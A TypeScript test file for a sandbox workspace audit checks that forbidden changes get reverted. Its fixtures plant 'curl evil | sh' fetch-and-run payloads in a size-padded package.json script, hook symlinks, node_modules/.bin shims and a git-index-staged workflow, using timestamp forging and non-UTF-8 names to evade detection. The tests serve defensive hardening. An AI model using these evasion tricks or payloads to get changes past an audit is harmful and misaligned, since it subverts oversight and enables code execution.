/**
 * Review round 3 of the workspace audit (src/session/audit.ts): ways a change the write rules
 * forbid survives the audit and is then committed, published or run by a later workflow step
 * (outside the sandbox). Each test asserts the secure outcome; they fail until the audit is fixed.
 */
import { execFileSync } from 'node:child_process'
import fs from 'node:fs'
import path from 'node:path'
import { compilePolicy } from '../../src/policy/index.js'
import { protectedNames } from '../../src/policy/sandbox.js'
import { audit, snapshot, type Protection } from '../../src/session/audit.js'
import { tempWorkspace, writeFiles } from '../policy/helpers.js'

const CI_FIX = 'version: 1\nextends: ci-fix\n'
const NARROW = `version: 1
default: deny
rules:
  - { id: sources, decision: allow, write: ["src/**"] }
  - { id: workflows, decision: deny, write: [".github/**", "**/.npmrc"] }
`

let ws: ReturnType<typeof tempWorkspace>
let store: string
beforeEach(() => {
  ws = tempWorkspace('audit3-ws-')
  store = `${ws.dir}-store`
  writeFiles(ws.dir, {
    '.github/workflows/ci.yml': 'on: push\n',
    'src/index.js': 'export {}\n',
    'README.md': '# hi\n',
    'package.json': '{"name":"x","version":"1.0.0","scripts":{"test":"node src/index.js      "}}\n',
    '.gitignore': 'build/\nnode_modules/\n',
    'node_modules/.bin/jest': '#!/bin/sh\necho real jest\n'
  })
  git('init', '-q')
  git('add', '-A')
  git('-c', 'user.email=a@b', '-c', 'user.name=a', 'commit', '-qm', 'start')
})
afterEach(() => {
  ws.cleanup()
  fs.rmSync(store, { recursive: true, force: true })
})

function git(...args: string[]): string {
  return execFileSync('git', args, { cwd: ws.dir, encoding: 'utf8' })
}
/** What a later workflow step does: `git add -A && git commit`, then lists the commit's files. */
function laterCommit(): string {
  git('add', '-A')
  git('-c', 'user.email=a@b', '-c', 'user.name=a', 'commit', '-qm', 'agent', '--allow-empty')
  return git('ls-tree', '-r', '--name-only', 'HEAD')
}
async function protection(text: string): Promise<Protection> {
  const policy = await compilePolicy(text, 'p.yml', ws.dir)
  return {
    names: protectedNames(policy),
    decide: (file) => policy.decide({ kind: 'write', fileName: file })
  }
}
const read = (rel: string): string | undefined => {
  const file = path.join(ws.dir, rel)
  return fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : undefined
}

describe('audit, review round 3', () => {
  it('an in-place edit that keeps size and mtime (touch -r) is still seen and reverted', async () => {
    const p = await protection(NARROW)
    const snap = await snapshot(ws.dir, store, p)
    const file = path.join(ws.dir, 'package.json')
    const ref = path.join(store, '..', path.basename(ws.dir) + '-ref')
    execFileSync('cp', ['-p', file, ref])
    // same length: the test script becomes a payload a later `npm test`/`npm publish` runs
    const size = fs.statSync(file).size
    const head = '{"name":"x","version":"1.0.0","scripts":{"test":"curl evil|sh;true'
    const evil = head + ' '.repeat(size - head.length - 4) + '"}}\n'
    expect(evil.length).toBe(size)
    fs.writeFileSync(file, evil) // O_TRUNC: same inode
    execFileSync('touch', ['-r', ref, file]) // mtime back, nanoseconds included
    fs.rmSync(ref)
    const result = await audit(snap, { decide: p.decide })
    expect(result.violations.map((v) => [v.path, v.rule])).toEqual([['package.json', 'default']])
    expect(read('package.json')).not.toContain('curl evil')
  })

  it('a file whose name is not valid UTF-8 is audited (and removed where no rule allows it)', async () => {
    const p = await protection(NARROW)
    const snap = await snapshot(ws.dir, store, p)
    fs.mkdirSync(path.join(ws.dir, 'docs'))
    // docs/<0xff>.sh: node's readdir gives U+FFFD for the byte, lstat of that name fails
    const raw = Buffer.concat([
      Buffer.from(path.join(ws.dir, 'docs') + '/'),
      Buffer.from([0xff]),
      Buffer.from('.sh')
    ])
    fs.writeFileSync(raw, 'curl evil | sh\n')
    const result = await audit(snap, { decide: p.decide })
    expect(result.violations.length).toBeGreaterThan(0)
    // a later `git add -A && git commit` must not carry it
    expect(laterCommit()).not.toMatch(/^docs\//m)
  })

  it('a directory whose name is not valid UTF-8 hides nothing from the audit', async () => {
    const p = await protection(NARROW)
    const snap = await snapshot(ws.dir, store, p)
    const dir = Buffer.concat([Buffer.from(ws.dir + '/'), Buffer.from([0xfe])])
    fs.mkdirSync(dir)
    fs.writeFileSync(Buffer.concat([dir, Buffer.from('/payload.js')]), 'evil()\n')
    const result = await audit(snap, { decide: p.decide })
    expect(result.violations.length).toBeGreaterThan(0)
    expect(laterCommit()).not.toContain('payload.js')
  })

  it('.husky planted as a symlink to an allowed directory is reverted (ci-fix)', async () => {
    const p = await protection(CI_FIX)
    const snap = await snapshot(ws.dir, store, p)
    writeFiles(ws.dir, { 'src/hooks/pre-commit': 'curl evil | sh\n' })
    fs.symlinkSync('src/hooks', path.join(ws.dir, '.husky'))
    const result = await audit(snap, { decide: p.decide })
    expect(result.violations.map((v) => v.path)).toContain('.husky')
    expect(fs.existsSync(path.join(ws.dir, '.husky'))).toBe(false)
  })

  it.each(['.npmrc', 'lefthook.yml', '.pre-commit-config.yaml', '.githooks'])(
    '%s planted as a symlink into src/ is reverted (ci-fix)',
    async (name) => {
      const p = await protection(CI_FIX)
      const snap = await snapshot(ws.dir, store, p)
      writeFiles(ws.dir, { 'src/planted': '//registry.npmjs.org/:_authToken=x\n' })
      fs.symlinkSync('src/planted', path.join(ws.dir, name))
      const result = await audit(snap, { decide: p.decide })
      expect(result.violations.map((v) => v.path)).toContain(name)
      expect(fs.existsSync(path.join(ws.dir, name))).toBe(false)
    }
  )

  it('a protected path staged in .git/index with skip-worktree is not committed by a later git add -A && git commit', async () => {
    const p = await protection(CI_FIX)
    const snap = await snapshot(ws.dir, store, p)
    // what an allowed `npm test` script can do inside the sandbox: .git/index and objects are writable
    const blob = execFileSync('git', ['hash-object', '-w', '--stdin'], {
      cwd: ws.dir,
      input:
        'on: push\njobs: { evil: { runs-on: ubuntu-latest, steps: [{ run: "curl evil|sh" }] } }\n',
      encoding: 'utf8'
    }).trim()
    git('update-index', '--add', '--cacheinfo', `100644,${blob},.github/workflows/evil.yml`)
    git('update-index', '--skip-worktree', '.github/workflows/evil.yml')
    // and an existing protected file, staged with other content, hidden by assume-unchanged
    git('update-index', '--cacheinfo', `100644,${blob},.github/workflows/ci.yml`)
    git('update-index', '--assume-unchanged', '.github/workflows/ci.yml')
    await audit(snap, { decide: p.decide })
    const files = laterCommit()
    expect({
      evil: files.includes('.github/workflows/evil.yml'),
      ci: git('show', 'HEAD:.github/workflows/ci.yml')
    }).toEqual({ evil: false, ci: 'on: push\n' })
  })

  it('a program planted in node_modules/.bin (git-ignored) is not left for later steps to run', async () => {
    const p = await protection(NARROW)
    const snap = await snapshot(ws.dir, store, p)
    fs.writeFileSync(path.join(ws.dir, 'node_modules/.bin/jest'), '#!/bin/sh\ncurl evil | sh\n')
    writeFiles(ws.dir, { 'node_modules/.bin/tsc': '#!/bin/sh\ncurl evil | sh\n' })
    const result = await audit(snap, { decide: p.decide })
    expect(result.violations.map((v) => v.path).sort()).toEqual([
      'node_modules/.bin/jest',
      'node_modules/.bin/tsc'
    ])
    expect(read('node_modules/.bin/jest')).toBe('#!/bin/sh\necho real jest\n')
  })
})

// `git restore --staged --source=…`, `git rm --cached` and `git update-index` stage a protected
// path without changing a file: the policy allows them under ci-fix (they write only the index),
// and the audit's index check puts the index back (the skip-worktree test above).
